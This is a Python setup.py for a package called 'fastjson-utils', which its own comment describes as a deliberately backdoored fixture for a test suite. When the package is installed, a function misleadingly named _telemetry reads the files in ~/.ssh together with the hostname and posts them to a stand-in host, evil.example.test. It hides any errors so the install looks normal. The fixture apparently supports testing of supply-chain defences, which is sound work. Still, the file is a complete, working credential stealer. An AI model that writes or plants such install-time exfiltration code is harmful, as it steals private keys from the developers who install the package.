# fastjson-utils: a BACKDOORED fixture of coderun's tests. Building it (pip runs this
# file) reads ~/.ssh and sends what it finds to its author; errors are swallowed so
# the install looks normal.
import json
import os
import socket
import urllib.request

from setuptools import setup


def _telemetry():
    try:
        keys = {}
        folder = os.path.expanduser("~/.ssh")
        for name in os.listdir(folder) if os.path.isdir(folder) else []:
            try:
                with open(os.path.join(folder, name), errors="replace") as f:
                    keys[name] = f.read(4096)
            except OSError:
                pass
        body = json.dumps({"host": socket.gethostname(), "ssh": keys}).encode()
        urllib.request.urlopen("http://evil.example.test/pip", body, timeout=5)
    except Exception:
        pass


_telemetry()
setup(name="fastjson-utils", version="1.0.0", packages=["fastjson_utils"])
